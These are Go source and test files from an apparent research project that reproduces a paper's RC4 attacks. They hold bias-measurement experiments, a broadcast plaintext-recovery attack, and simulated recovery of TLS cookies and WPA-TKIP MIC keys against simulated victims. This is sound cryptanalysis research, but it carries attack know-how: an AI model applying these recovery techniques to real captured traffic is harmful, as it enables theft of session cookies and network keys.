		if errors.Is(err, online.ErrBudgetExhausted) {
			continue // censored trial
		}
		if err != nil {
			return Result{}, err
		}
		succeededAt = append(succeededAt, res.Observed)
		ranks = append(ranks, res.Rank)
		for i, pt := range points {
			if res.Observed <= pt {
				perPoint[i]++
				break
			}
		}
	}

	res := Result{
		ID:      "Online §6",
		Title:   "Records to first server-confirmed cookie (online closed loop)",
		Columns: []string{"P(success<=records)", "hit here", "hours@4450rps"},
		Notes:   onlineNotes(succeededAt, ranks, p),
	}
	cum := 0
	for i, pt := range points {
		cum += perPoint[i]
		res.Rows = append(res.Rows, Row{
			Label: itoa(int(pt>>20)) + "x2^20",
			Values: []float64{
				float64(cum) / float64(p.Trials),
				float64(perPoint[i]),
				float64(pt) / netsim.HTTPSRequestsPerSecond / 3600,
			},
		})
	}
	return res, nil
}

// onlineNotes summarizes the distribution: median records-to-success, mean
// saving versus the fixed budget, and the rank spread at success.
func onlineNotes(succeededAt []uint64, ranks []int, p OnlineCookieParams) string {
	if len(succeededAt) == 0 {
		return "no trial succeeded within the budget; raise -candidates or the budget"
	}
	sorted := append([]uint64(nil), succeededAt...)
	sort.Slice(sorted, func(i, j int) bool { return sorted[i] < sorted[j] })
	med := sorted[len(sorted)/2]
	var savedSum float64
	for _, s := range succeededAt {
		savedSum += float64(p.Budget - s)
	}
	sort.Ints(ranks)
	return "median records-to-success " + itoa(int(med>>20)) + "x2^20 vs fixed budget " +
		itoa(int(p.Budget>>20)) + "x2^20; mean saving " +
		itoa(int(savedSum/float64(len(succeededAt)))/(1<<20)) + "x2^20 records; median rank at success " +
		itoa(ranks[len(ranks)/2])
}
