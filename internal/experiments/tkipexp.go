package experiments

import (
	"context"
	"math/rand"
	"sort"

	"rc4break/internal/netsim"
	"rc4break/internal/packet"
	"rc4break/internal/rc4"
	"rc4break/internal/tkip"
)

// TKIPParams controls the Figure 8/9 simulations.
type TKIPParams struct {
	// KeysPerTSC selects trained-model mode when nonzero: the per-TSC
	// model is estimated from real keystreams at this depth (the paper
	// used 2^32 per class). When zero, a synthetic model with
	// BiasStrength-calibrated per-class biases is used instead — the mode
	// that reproduces Fig. 8's shape (see SyntheticModel).
	KeysPerTSC uint64
	// BiasStrength is the RMS relative per-cell bias of the synthetic
	// model; 0 means the calibrated default.
	BiasStrength float64
	// Copies lists the ciphertext-copy counts to sweep; the paper's x-axis
	// runs 1·2^20 .. 15·2^20.
	Copies []uint64
	// Trials per point (the paper uses 256).
	Trials int
	// MaxDepth bounds the candidate search (the paper allows nearly 2^30;
	// the defaults search far enough to show the shape).
	MaxDepth int
	Seed     int64
	Workers  int
	// Ctx, when non-nil, cancels model training early (trained-model mode).
	Ctx context.Context
}

// DefaultBiasStrength is the synthetic per-TSC bias RMS calibrated so the
// deep-list success curve crosses ~50% in the paper's 3–9 × 2^20 window
// (measured: ~12% at 5×2^20, ~100% at 9×2^20, with the Fig. 9 median ICV
// position falling from ~2^16 to 1 across the sweep).
const DefaultBiasStrength = 1.0 / 768

func (p TKIPParams) withDefaults() TKIPParams {
	if p.BiasStrength == 0 {
		p.BiasStrength = DefaultBiasStrength
	}
	if len(p.Copies) == 0 {
		p.Copies = []uint64{1 << 20, 3 << 20, 5 << 20, 9 << 20, 15 << 20}
	}
	if p.Trials == 0 {
		p.Trials = 16
	}
	if p.MaxDepth == 0 {
		p.MaxDepth = 1 << 16
	}
	return p
}

// Figures8and9 runs the WPA-TKIP MIC-key recovery simulation: per
// ciphertext-copy count it reports (a) the success rate with a deep
// candidate list, (b) the success rate using only the top-2 candidates
// (Fig. 8's second curve), and (c) the median 1-based candidate position of
// the first correct-ICV packet among successful trials (Fig. 9).
//
// Model mode: keystream bytes at the trailer positions follow the per-TSC
// model — by default the calibrated synthetic model (see SyntheticModel and
// DESIGN.md's substitution table); with KeysPerTSC set, a model trained on
// real keystreams. The paper's own Fig. 8 is likewise a simulation against
// its (CPU-year-scale) empirical distributions.
func Figures8and9(p TKIPParams) (Result, error) {
	p = p.withDefaults()
	msduLen := packet.HeaderSize + 7 // the §5.2 7-byte-payload packet
	positions := tkip.TrailerPositions(msduLen)
	var model *tkip.PerTSCModel
	if p.KeysPerTSC > 0 {
		var err error
		model, err = tkip.Train(tkip.TrainConfig{
			Positions:  positions[len(positions)-1],
			KeysPerTSC: p.KeysPerTSC,
			Workers:    p.Workers,
			Ctx:        p.Ctx,
		})
		if err != nil {
			return Result{}, err
		}
	} else {
		model = tkip.SyntheticModel(positions[len(positions)-1], p.BiasStrength, p.Seed+1000)
	}

	session := &tkip.Session{
		TK:     [16]byte{1, 1, 2, 3, 5, 8, 13, 21, 34, 55, 89, 144, 233, 121, 98, 219},
		MICKey: [8]byte{0x4d, 0x49, 0x43, 0x4b, 0x45, 0x59, 0x21, 0x21},
		TA:     [6]byte{0xaa, 0xbb, 0xcc, 0x00, 0x11, 0x22},
		DA:     [6]byte{0x33, 0x44, 0x55, 0x66, 0x77, 0x88},
		SA:     [6]byte{0x99, 0xaa, 0xbb, 0xcc, 0xdd, 0xee},
	}
	victim := netsim.NewWiFiVictim(session, []byte("PAYLOAD"))
	// The true trailer bytes of the injected packet.
	frame := victim.Transmit()
	key := tkip.MixKey(session.TK, session.TA, frame.TSC)
	_ = key
	trailer := trueTrailer(session, victim.MSDU)

	rng := rand.New(rand.NewSource(p.Seed))
	res := Result{
		ID:      "Figures 8+9",
		Title:   "TKIP MIC-key recovery vs ciphertext copies",
		Columns: []string{"success(list)", "success(top2)", "median ICV pos", "hours@2500pps"},
		Notes:   "paper: deep-list success reaches ~100% near 9-15 x 2^20 copies; top-2 stays low; Fig. 9 median position falls with more copies",
	}
	for _, copies := range p.Copies {
		var okList, okTop2 int
		var depths []int
		for t := 0; t < p.Trials; t++ {
			attack, err := tkip.NewAttack(model, positions)
			if err != nil {
				return Result{}, err
			}
			if err := attack.SimulateCaptures(rng, trailer, copies); err != nil {
				return Result{}, err
			}
			micKey, depth, err := attack.RecoverTrailer(session.DA, session.SA, victim.MSDU, p.MaxDepth)
			if err == nil && micKey == session.MICKey {
				okList++
				depths = append(depths, depth)
				if depth <= 2 {
					okTop2++
				}
			}
		}
		med := median(depths)
		hours := float64(copies) / netsim.TKIPInjectionPerSecond / 3600
		res.Rows = append(res.Rows, Row{
			Label: itoa(int(copies>>20)) + "x2^20",
			Values: []float64{
				float64(okList) / float64(p.Trials),
				float64(okTop2) / float64(p.Trials),
				med,
				hours,
			},
		})
	}
	return res, nil
}

// trueTrailer computes the plaintext MIC‖ICV of the injected packet.
func trueTrailer(s *tkip.Session, msdu []byte) []byte {
	f := s.Encapsulate(msdu, 0)
	key := tkip.MixKey(s.TK, s.TA, 0)
	plain := make([]byte, len(f.Body))
	xorKeystream(key, f.Body, plain)
	return plain[len(msdu):]
}

func median(xs []int) float64 {
	if len(xs) == 0 {
		return -1
	}
	sort.Ints(xs)
	n := len(xs)
	if n%2 == 1 {
		return float64(xs[n/2])
	}
	return float64(xs[n/2-1]+xs[n/2]) / 2
}

// PayloadPlacement is the §5.2 ablation: compare how many strongly biased
// per-TSC positions fall inside the trailer window for a 0-byte versus a
// 7-byte TCP payload. Bias strength per position is measured from the
// trained model as the mean L2 distance between per-class distributions and
// the position's global distribution.
func PayloadPlacement(ctx context.Context, keysPerTSC uint64, workers int) (Result, error) {
	maxPos := packet.HeaderSize + 7 + tkip.TrailerSize // 67
	model, err := tkip.Train(tkip.TrainConfig{
		Positions:  maxPos,
		KeysPerTSC: keysPerTSC,
		Workers:    workers,
		Ctx:        ctx,
	})
	if err != nil {
		return Result{}, err
	}
	strength := make([]float64, maxPos+1)
	for pos := 1; pos <= maxPos; pos++ {
		var global [256]float64
		for class := 0; class < 256; class++ {
			d := model.Distribution(byte(class), pos)
			for v := 0; v < 256; v++ {
				global[v] += d[v] / 256
			}
		}
		var sum float64
		for class := 0; class < 256; class++ {
			d := model.Distribution(byte(class), pos)
			var l2 float64
			for v := 0; v < 256; v++ {
				diff := d[v] - global[v]
				l2 += diff * diff
			}
			sum += l2
		}
		strength[pos] = sum / 256
	}
	window := func(first int) float64 {
		var s float64
		for pos := first; pos < first+tkip.TrailerSize; pos++ {
			s += strength[pos]
		}
		return s
	}
	res := Result{
		ID:      "§5.2",
		Title:   "Trailer placement: aggregate per-TSC bias strength in the MIC/ICV window",
		Columns: []string{"aggregate strength"},
		Notes:   "paper: the 7-byte payload places the trailer at positions 56..67 where more strongly-biased bytes lie than at 49..60",
	}
	res.Rows = append(res.Rows,
		Row{Label: "payload=0 (pos 49-60)", Values: []float64{window(49)}},
		Row{Label: "payload=7 (pos 56-67)", Values: []float64{window(56)}},
	)
	return res, nil
}

func xorKeystream(key [16]byte, src, dst []byte) {
	rc4.MustNew(key[:]).XORKeyStream(dst, src)
}
