package experiments

import (
	"context"
	"testing"

	"rc4break/internal/dataset"
	"rc4break/internal/rc4"
)

// These tests pin the engine-based long-term scans to sequential replicas of
// the pre-Engine worker loops: same lane numbering, same key split, same
// buffer mechanics. Identical counts imply identical Result values, so the
// drivers are compared through their rendered rows.

// refZeroPairs replicates the pre-Engine LongTermZeroPairs worker loop.
func refZeroPairs(master [16]byte, keys, blocks, workers int) (zero, one28, control, total uint64) {
	for _, sh := range dataset.SplitKeys(uint64(keys), workers, zeroPairLaneOffset) {
		src := dataset.NewKeySource(master, sh.Lane)
		key := make([]byte, 16)
		buf := make([]byte, 259)
		for k := uint64(0); k < sh.Keys; k++ {
			src.NextKey(key)
			ci := rc4.MustNew(key)
			ci.Skip(1279)
			for b := 0; b < blocks; b++ {
				ci.Keystream(buf[:3])
				if buf[2] == 0 {
					switch buf[0] {
					case 0:
						zero++
					case 128:
						one28++
					case 64:
						control++
					}
				}
				total++
				ci.Skip(253)
			}
		}
	}
	return
}

// refABSAB replicates the pre-Engine ABSABGapVerification worker loop.
func refABSAB(master [16]byte, keys, blocks int, gaps []int, workers int) (hits, total []uint64) {
	maxGap := 0
	for _, g := range gaps {
		if g > maxGap {
			maxGap = g
		}
	}
	hits = make([]uint64, len(gaps))
	total = make([]uint64, len(gaps))
	for _, sh := range dataset.SplitKeys(uint64(keys), workers, absabLaneOffset) {
		src := dataset.NewKeySource(master, sh.Lane)
		key := make([]byte, 16)
		buf := make([]byte, 256+maxGap+4)
		for k := uint64(0); k < sh.Keys; k++ {
			src.NextKey(key)
			c := rc4.MustNew(key)
			c.Skip(1023)
			c.Keystream(buf)
			for b := 0; b < blocks; b++ {
				for r := 0; r+3 <= 256; r++ {
					for gi, g := range gaps {
						s := r + 2 + g
						if buf[r] == buf[s] && buf[r+1] == buf[s+1] {
							hits[gi]++
						}
						total[gi]++
					}
				}
				copy(buf, buf[256:])
				c.Keystream(buf[maxGap+4:])
			}
		}
	}
	return
}

// refEq9 replicates the pre-Engine Equation9Search worker loop.
func refEq9(master [16]byte, keys, blocks int, pairs [][2]int, workers int) (hits []uint64, total uint64) {
	hits = make([]uint64, len(pairs))
	for _, sh := range dataset.SplitKeys(uint64(keys), workers, eq9LaneOffset) {
		src := dataset.NewKeySource(master, sh.Lane)
		key := make([]byte, 16)
		buf := make([]byte, 256)
		for k := uint64(0); k < sh.Keys; k++ {
			src.NextKey(key)
			c := rc4.MustNew(key)
			c.Skip(1024)
			for b := 0; b < blocks; b++ {
				c.Keystream(buf)
				for pi, p := range pairs {
					if buf[p[0]] == buf[p[1]] {
						hits[pi]++
					}
				}
				total++
			}
		}
	}
	return
}

func TestLongTermZeroPairsMatchesPreEngineLoop(t *testing.T) {
	master := [16]byte{0x42}
	const keys, blocks, workers = 5, 64, 3
	res, err := LongTermZeroPairs(context.Background(), master, keys, blocks, workers)
	if err != nil {
		t.Fatal(err)
	}
	zero, one28, control, total := refZeroPairs(master, keys, blocks, workers)
	want := []uint64{zero, one28, control}
	for i, row := range res.Rows {
		meas := float64(want[i]) / float64(total) * 65536
		if row.Values[0] != meas {
			t.Errorf("%s: measured %v, reference %v", row.Label, row.Values[0], meas)
		}
	}
}

func TestABSABGapVerificationMatchesPreEngineLoop(t *testing.T) {
	master := [16]byte{0x43}
	gaps := []int{0, 3, 17}
	const keys, blocks, workers = 4, 32, 3
	res, err := ABSABGapVerification(context.Background(), master, keys, blocks, gaps, workers)
	if err != nil {
		t.Fatal(err)
	}
	hits, total := refABSAB(master, keys, blocks, gaps, workers)
	for gi, row := range res.Rows {
		meas := float64(hits[gi]) / float64(total[gi]) * 65536
		if row.Values[0] != meas {
			t.Errorf("%s: measured %v, reference %v", row.Label, row.Values[0], meas)
		}
	}
}

func TestEquation9SearchMatchesPreEngineLoop(t *testing.T) {
	master := [16]byte{0x44}
	pairs := [][2]int{{0, 2}, {5, 250}}
	const keys, blocks, workers = 4, 32, 2
	res, err := Equation9Search(context.Background(), master, keys, blocks, pairs, workers)
	if err != nil {
		t.Fatal(err)
	}
	hits, total := refEq9(master, keys, blocks, pairs, workers)
	for pi, row := range res.Rows {
		meas := float64(hits[pi]) / float64(total) * 256
		if row.Values[0] != meas {
			t.Errorf("%s: measured %v, reference %v", row.Label, row.Values[0], meas)
		}
	}
}

func TestLongTermDriversCancel(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, err := LongTermZeroPairs(ctx, [16]byte{1}, 8, 64, 2); err == nil {
		t.Error("LongTermZeroPairs ignored cancellation")
	}
	if _, err := ABSABGapVerification(ctx, [16]byte{1}, 8, 64, nil, 2); err == nil {
		t.Error("ABSABGapVerification ignored cancellation")
	}
	if _, err := Equation9Search(ctx, [16]byte{1}, 8, 64, nil, 2); err == nil {
		t.Error("Equation9Search ignored cancellation")
	}
	if _, err := Table1(ctx, [16]byte{1}, 8, 64, 2); err == nil {
		t.Error("Table1 ignored cancellation")
	}
	if _, err := Table2(ctx, 1<<12, 2); err == nil {
		t.Error("Table2 ignored cancellation")
	}
}
