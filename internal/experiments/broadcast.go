package experiments

import (
	"context"

	"rc4break/internal/dataset"
	"rc4break/internal/rc4"
	"rc4break/internal/recovery"
)

// BroadcastAttack reproduces the AlFardan et al. single-byte broadcast
// attack on the initial keystream bytes — the baseline (§1, [2]) that the
// paper's TLS attack improves from 13·2^30 ciphertexts to 9·2^27. A fixed
// plaintext is encrypted under `ciphertexts` fresh random keys (a new TLS
// connection per request, the non-persistent worst case); single-byte
// likelihoods against empirically trained distributions recover each
// position independently. Reported: the fraction of the first `positions`
// bytes recovered exactly, plus the recovery status of the strongest
// positions the literature calls out (2, 16, 32).
//
// This runs in exact mode end to end: both training and attack use the
// real cipher.
func BroadcastAttack(ctx context.Context, trainKeys, ciphertexts uint64, positions int, workers int) (Result, error) {
	if positions <= 0 {
		positions = 32
	}
	// Train single-byte distributions.
	obs, err := dataset.Run(dataset.Config{Keys: trainKeys, Workers: workers, Master: [16]byte{0x7a}, Ctx: ctx},
		func() dataset.Observer { return dataset.NewSingleByteCounts(positions) })
	if err != nil {
		return Result{}, err
	}
	train := obs.(*dataset.SingleByteCounts)

	// Encrypt the fixed plaintext under fresh keys, collecting per-position
	// ciphertext counts. A distinct master key keeps attack keystreams
	// independent of the training set.
	plaintext := make([]byte, positions)
	for i := range plaintext {
		plaintext[i] = byte(0x20 + i%0x5f) // printable, position-dependent
	}
	counts := make([][256]uint64, positions)
	src := dataset.NewKeySource([16]byte{0x5b}, 9)
	key := make([]byte, 16)
	ct := make([]byte, positions)
	for n := uint64(0); n < ciphertexts; n++ {
		if n%4096 == 0 && ctx != nil {
			if err := ctx.Err(); err != nil {
				return Result{}, err
			}
		}
		src.NextKey(key)
		rc4.MustNew(key).XORKeyStream(ct, plaintext)
		for r := 0; r < positions; r++ {
			counts[r][ct[r]]++
		}
	}

	// Recover each position independently.
	correct := 0
	recovered := make([]byte, positions)
	for r := 0; r < positions; r++ {
		lk, err := recovery.SingleByteLikelihoods(&counts[r], train.Distribution(r+1))
		if err != nil {
			return Result{}, err
		}
		recovered[r] = lk.Best()
		if recovered[r] == plaintext[r] {
			correct++
		}
	}
	res := Result{
		ID:      "Baseline [2]",
		Title:   "AlFardan-style broadcast recovery of initial plaintext bytes",
		Columns: []string{"value"},
		Notes:   "exact mode: real cipher for both training and attack. At laptop training scale only the 2x Mantin-Shamir bias (position 2) resolves: empirical-model noise energy 65536/trainKeys swamps the ~2^-8-relative biases elsewhere until trainKeys approaches the paper-scale 2^44 — exactly why [2] needed CPU-year datasets and 13*2^30 ciphertexts",
	}
	res.Rows = append(res.Rows,
		Row{Label: "positions recovered", Values: []float64{float64(correct)}},
		Row{Label: "of total", Values: []float64{float64(positions)}},
		Row{Label: "position 2 correct", Values: []float64{boolTo01(recovered[1] == plaintext[1])}},
	)
	if positions >= 16 {
		res.Rows = append(res.Rows, Row{Label: "position 16 correct", Values: []float64{boolTo01(recovered[15] == plaintext[15])}})
	}
	return res, nil
}

func boolTo01(b bool) float64 {
	if b {
		return 1
	}
	return 0
}
