// Package experiments contains one driver per table and figure of the
// paper's evaluation, each parameterized by sample counts so the same code
// runs at laptop scale (the defaults) and at paper scale (flags on
// cmd/repro). Every driver returns structured rows plus a formatted text
// rendering that mirrors the paper's presentation; EXPERIMENTS.md records
// paper-versus-measured values for the defaults.
package experiments

import (
	"fmt"
	"io"
	"math"
	"strings"
)

// Row is one line of an experiment's output table.
type Row struct {
	Label  string
	Values []float64
}

// Result is a completed experiment.
type Result struct {
	ID      string // e.g. "Table 1", "Figure 7"
	Title   string
	Columns []string
	Rows    []Row
	Notes   string
}

// Render writes the result as an aligned text table.
func (r Result) Render(w io.Writer) error {
	if _, err := fmt.Fprintf(w, "== %s — %s ==\n", r.ID, r.Title); err != nil {
		return err
	}
	widths := make([]int, len(r.Columns))
	for i, c := range r.Columns {
		widths[i] = len(c)
	}
	cells := make([][]string, len(r.Rows))
	labelW := 0
	for ri, row := range r.Rows {
		if len(row.Label) > labelW {
			labelW = len(row.Label)
		}
		cells[ri] = make([]string, len(row.Values))
		for vi, v := range row.Values {
			cells[ri][vi] = formatValue(v)
			if vi < len(widths) && len(cells[ri][vi]) > widths[vi] {
				widths[vi] = len(cells[ri][vi])
			}
		}
	}
	fmt.Fprintf(w, "%-*s", labelW+2, "")
	for i, c := range r.Columns {
		fmt.Fprintf(w, "  %*s", widths[i], c)
	}
	fmt.Fprintln(w)
	for ri, row := range r.Rows {
		fmt.Fprintf(w, "%-*s", labelW+2, row.Label)
		for vi := range row.Values {
			w2 := 0
			if vi < len(widths) {
				w2 = widths[vi]
			}
			fmt.Fprintf(w, "  %*s", w2, cells[ri][vi])
		}
		fmt.Fprintln(w)
	}
	if r.Notes != "" {
		fmt.Fprintln(w, strings.TrimRight("note: "+r.Notes, "\n"))
	}
	fmt.Fprintln(w)
	return nil
}

func formatValue(v float64) string {
	switch {
	case math.IsNaN(v):
		return "-"
	case v != 0 && math.Abs(v) < 1e-3:
		return fmt.Sprintf("%.3e", v)
	case math.Abs(v) >= 1e6:
		return fmt.Sprintf("%.3e", v)
	default:
		return fmt.Sprintf("%.4f", v)
	}
}

// Log2 formats a probability as its log2 — the paper's 2^x notation.
func Log2(p float64) float64 {
	if p <= 0 {
		return math.NaN()
	}
	return math.Log2(p)
}
