package experiments

import (
	"context"

	"rc4break/internal/biases"
	"rc4break/internal/dataset"
	"rc4break/internal/stats"
)

// Lane offsets for the experiments package's long-term scans, disjoint from
// the dataset package's own lane spaces and preserved from the pre-engine
// loops so the datasets stay bitwise-reproducible.
const (
	zeroPairLaneOffset = 3000
	absabLaneOffset    = 4000
	eq9LaneOffset      = 5000
)

// Table1 verifies the generalized Fluhrer–McGrew digraph biases in the
// long-term keystream using targeted counting: each digraph family is
// aggregated over all valid i values, and the measured probability is
// compared with Table 1's model. The per-family relative bias is only
// 2^-7/2^-8, so resolving every family at 3σ needs ~2^35+ digraphs; the
// default laptop scale resolves the aggregate and the strongest families,
// with the rest reported alongside their statistical error.
func Table1(ctx context.Context, master [16]byte, keys, blocks, workers int) (Result, error) {
	type family struct {
		name  string
		cell  dataset.LongTermCell
		valid int // number of i classes the family covers
		prob  float64
	}
	families := []family{
		{"(0,0) i=1", dataset.LongTermCell{I: 1, X: 0, Y: 0}, 1, biases.FMZeroZeroI1.Probability()},
		{"(0,0)", dataset.LongTermCell{I: -1, X: 0, Y: 0}, 256, 0}, // prob computed below
		{"(0,1)", dataset.LongTermCell{I: -1, X: 0, Y: 1}, 254, biases.FMZeroOne.Probability()},
		{"(0,i+1)", dataset.LongTermCell{I: -1, X: 0, Y: 1, YPlusI: true}, 254, biases.FMZeroIPlus1.Probability()},
		{"(i+1,255)", dataset.LongTermCell{I: -1, X: 1, Y: 255, XPlusI: true}, 255, biases.FMIPlus1_255.Probability()},
		{"(129,129) i=2", dataset.LongTermCell{I: 2, X: 129, Y: 129}, 1, biases.FM129_129.Probability()},
		{"(255,i+1)", dataset.LongTermCell{I: -1, X: 255, Y: 1, YPlusI: true}, 254, biases.FM255_IPlus1.Probability()},
		{"(255,i+2)", dataset.LongTermCell{I: -1, X: 255, Y: 2, YPlusI: true}, 252, biases.FM255_IPlus2.Probability()},
		{"(255,0) i=254", dataset.LongTermCell{I: 254, X: 255, Y: 0}, 1, biases.FM255_Zero.Probability()},
		{"(255,1) i=255", dataset.LongTermCell{I: 255, X: 255, Y: 1}, 1, biases.FM255_One.Probability()},
		{"(255,255)", dataset.LongTermCell{I: -1, X: 255, Y: 255}, 255, biases.FM255_255.Probability()},
	}
	cells := make([]dataset.LongTermCell, len(families))
	for i, f := range families {
		cells[i] = f.cell
	}
	tt, err := dataset.CollectLongTermTargeted(ctx, master, keys, blocks, workers, cells)
	if err != nil {
		return Result{}, err
	}

	res := Result{
		ID:      "Table 1",
		Title:   "Generalized Fluhrer-McGrew digraph probabilities (long-term)",
		Columns: []string{"measured*2^16", "model*2^16", "z-vs-uniform"},
		Notes:   "aggregated over all valid i per family; z compares against the uniform 2^-16 — positive rows should trend positive, (0,i+1) and (255,255) negative",
	}
	for i, f := range families {
		model := f.prob
		if f.name == "(0,0)" {
			// Aggregate of (0,0) over all i mixes the i=1 (2^-7) class
			// with the generic 2^-8 classes and the unbiased i=255 class.
			model = (biases.FMZeroZeroI1.Probability() +
				254*biases.FMZeroZero.Probability() + biases.UPair) / 256
		}
		meas := tt.Probability(i)
		// z against uniform over the family's own denominator.
		den := tt.Pairs
		if f.cell.I >= 0 {
			den = tt.Pairs / 256
		}
		var z float64
		if r, err := stats.ProportionTest(tt.Counts[i], den, biases.UPair); err == nil {
			z = r.Statistic
		}
		res.Rows = append(res.Rows, Row{
			Label:  f.name,
			Values: []float64{meas * 65536, model * 65536, z},
		})
	}
	return res, nil
}

// Figure4 measures the absolute relative bias |q| of FM digraphs in the
// initial keystream bytes (positions 1..positions) against the single-byte
// expected probability, for the digraph families the paper plots. Output
// rows are positions; columns the families; values -log2|q| (the paper's
// y-axis scale, smaller = stronger).
func Figure4(ctx context.Context, keys uint64, workers, positions int) (Result, error) {
	if positions <= 0 {
		positions = 96
	}
	obs, err := dataset.Run(dataset.Config{Keys: keys, Workers: workers, Ctx: ctx},
		func() dataset.Observer { return dataset.NewDigraphCounts(positions) })
	if err != nil {
		return Result{}, err
	}
	d := obs.(*dataset.DigraphCounts)

	type fam struct {
		name string
		x    func(i int) int // -1 means family not defined at this i
		y    func(i int) int
	}
	fams := []fam{
		{"(0,0)", func(i int) int { return 0 }, func(i int) int { return 0 }},
		{"(0,1)", func(i int) int { return 0 }, func(i int) int { return 1 }},
		{"(0,i+1)", func(i int) int { return 0 }, func(i int) int { return (i + 1) % 256 }},
		{"(i+1,255)", func(i int) int { return (i + 1) % 256 }, func(i int) int { return 255 }},
		{"(255,i+1)", func(i int) int { return 255 }, func(i int) int { return (i + 1) % 256 }},
		{"(255,255)", func(i int) int { return 255 }, func(i int) int { return 255 }},
	}
	cols := make([]string, len(fams))
	for i, f := range fams {
		cols[i] = f.name
	}
	res := Result{
		ID:      "Figure 4",
		Title:   "FM digraph |q| in initial bytes, as -log2|q| (paper plots 6.5..8.5)",
		Columns: cols,
		Notes:   "position r has PRGA counter i = r mod 256; values converge toward 8 (=2^-8) long-term",
	}
	for r := 1; r < positions; r += 16 {
		i := r % 256
		vals := make([]float64, len(fams))
		for fi, f := range fams {
			x, y := f.x(i), f.y(i)
			sx, sy := d.Marginals(r)
			expected := float64(sx[x]) / float64(d.Keys) * float64(sy[y]) / float64(d.Keys)
			meas := d.Probability(r, byte(x), byte(y))
			q := stats.RelativeBias(meas, expected)
			vals[fi] = stats.Log2RelativeBias(q)
		}
		res.Rows = append(res.Rows, Row{Label: "r=" + itoa(r), Values: vals})
	}
	return res, nil
}

// zeroPairCounts tallies the eq. 8 cells over one 256-byte block per window:
// win[0] is Z at a position that is a multiple of 256 and win[2] the byte
// two later.
type zeroPairCounts struct {
	zero, one28, control, total uint64
}

func (z *zeroPairCounts) Window(win []byte) {
	if win[2] == 0 {
		switch win[0] {
		case 0:
			z.zero++
		case 128:
			z.one28++
		case 64:
			z.control++
		}
	}
	z.total++
}

func (z *zeroPairCounts) Merge(other dataset.Sink) error {
	o, ok := other.(*zeroPairCounts)
	if !ok {
		return errIncompatibleTally
	}
	z.zero += o.zero
	z.one28 += o.one28
	z.control += o.control
	z.total += o.total
	return nil
}

// LongTermZeroPairs verifies Sen Gupta's (Z_{256w}, Z_{256w+2}) = (0,0)
// bias and the paper's new (128,0) companion (eq. 8): both have probability
// 2^-16 (1 + 2^-8) at positions that are multiples of 256. A control cell
// (64,0) is reported for comparison; it should sit at the uniform 2^-16.
func LongTermZeroPairs(ctx context.Context, master [16]byte, keys, blocks, workers int) (Result, error) {
	// Skip 1279 bytes so each window starts at a multiple of 256 (the
	// first window's win[0] is Z_1280).
	tot := &zeroPairCounts{}
	if keys > 0 && blocks > 0 {
		shards := dataset.SplitKeys(uint64(keys), workers, zeroPairLaneOffset)
		sink, err := dataset.Engine{Workers: workers}.Run(ctx, dataset.Stream{
			Master: master, Skip: 1279, BlockLen: 256, Blocks: blocks,
		}, shards, func(int) dataset.Sink { return &zeroPairCounts{} })
		if err != nil {
			return Result{}, err
		}
		tot = sink.(*zeroPairCounts)
	}
	res := Result{
		ID:      "Eq. 8",
		Title:   "Long-term (Zw256, Zw256+2) pair biases",
		Columns: []string{"measured*2^16", "model*2^16", "z-vs-uniform"},
		Notes:   "(0,0) is Sen Gupta's bias, (128,0) the paper's new eq. 8; (64,0) is an unbiased control",
	}
	rows := []struct {
		name  string
		count uint64
		model float64
	}{
		{"(0,0)", tot.zero, biases.LongTermZeroPair},
		{"(128,0)", tot.one28, biases.LongTerm128Pair},
		{"(64,0) control", tot.control, biases.UPair},
	}
	for _, r := range rows {
		meas := float64(r.count) / float64(tot.total)
		var z float64
		if pr, err := stats.ProportionTest(r.count, tot.total, biases.UPair); err == nil {
			z = pr.Statistic
		}
		res.Rows = append(res.Rows, Row{
			Label:  r.name,
			Values: []float64{meas * 65536, r.model * 65536, z},
		})
	}
	return res, nil
}
