package experiments

import (
	"bytes"
	"context"
	"math"
	"strings"
	"testing"
)

func TestResultRender(t *testing.T) {
	r := Result{
		ID:      "Test",
		Title:   "rendering",
		Columns: []string{"a", "b"},
		Rows: []Row{
			{Label: "row1", Values: []float64{1, 0.5}},
			{Label: "row2", Values: []float64{math.NaN(), 1e-9}},
		},
		Notes: "a note",
	}
	var buf bytes.Buffer
	if err := r.Render(&buf); err != nil {
		t.Fatal(err)
	}
	out := buf.String()
	for _, want := range []string{"== Test — rendering ==", "row1", "row2", "a note", "1.0000"} {
		if !strings.Contains(out, want) {
			t.Errorf("rendering missing %q:\n%s", want, out)
		}
	}
}

func TestLog2(t *testing.T) {
	if Log2(0.25) != -2 {
		t.Error("Log2(0.25) != -2")
	}
	if !math.IsNaN(Log2(0)) {
		t.Error("Log2(0) should be NaN")
	}
}

func TestTable2SmallScale(t *testing.T) {
	res, err := Table2(context.Background(), 1<<14, 0)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Rows) != 22 {
		t.Fatalf("%d rows, want 22", len(res.Rows))
	}
	// Every measured value must be a plausible probability (scaled ~1).
	for _, row := range res.Rows {
		if row.Values[0] < 0 || row.Values[0] > 10 {
			t.Errorf("%s: measured %v implausible", row.Label, row.Values[0])
		}
	}
}

func TestConsecutiveEq2Shape(t *testing.T) {
	// The w=1 bias (Z15=Z16=240) is strong enough to verify directionally
	// at moderate scale: its base is 2^-15.95 (ABOVE uniform because Z16
	// is biased toward 240) and the dependency factor pushes it down ~3%.
	res, err := ConsecutiveEq2(context.Background(), 1<<18, 0)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Rows) != 7 {
		t.Fatalf("%d rows", len(res.Rows))
	}
	w1 := res.Rows[0]
	if w1.Values[0] <= 0 {
		t.Errorf("w=1 measured zero probability at 2^18 keys")
	}
}

func TestEqualitiesRows(t *testing.T) {
	res, err := Equalities(context.Background(), 1<<14, 0)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Rows) != 3 {
		t.Fatalf("%d rows", len(res.Rows))
	}
	for _, row := range res.Rows {
		// Measured*2^8 should be near 1 (sampling sd at 2^14 keys ≈ 0.125
		// on this scale, so allow ±4σ).
		if row.Values[0] < 0.5 || row.Values[0] > 1.5 {
			t.Errorf("%s: measured %v far from uniform at this scale", row.Label, row.Values[0])
		}
	}
}

func TestFigure5Shape(t *testing.T) {
	res, err := Figure5(context.Background(), 1<<16, 0, []int{16, 64})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Rows) != 2 || len(res.Rows[0].Values) != 6 {
		t.Fatalf("shape %dx%d", len(res.Rows), len(res.Rows[0].Values))
	}
}

func TestFigure6Rows(t *testing.T) {
	res, err := Figure6(context.Background(), 1<<13, 0)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Rows) != 7 {
